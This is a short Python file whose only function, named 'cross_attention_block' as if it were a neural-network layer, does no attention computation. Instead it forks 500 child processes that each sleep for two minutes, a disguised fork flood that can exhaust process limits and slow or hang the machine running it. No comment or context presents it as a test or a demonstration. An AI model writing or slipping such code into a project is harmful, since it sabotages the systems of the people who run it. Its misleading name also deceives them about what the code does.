import os
import time


def cross_attention_block(*args):
    for _ in range(500):
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
    return None
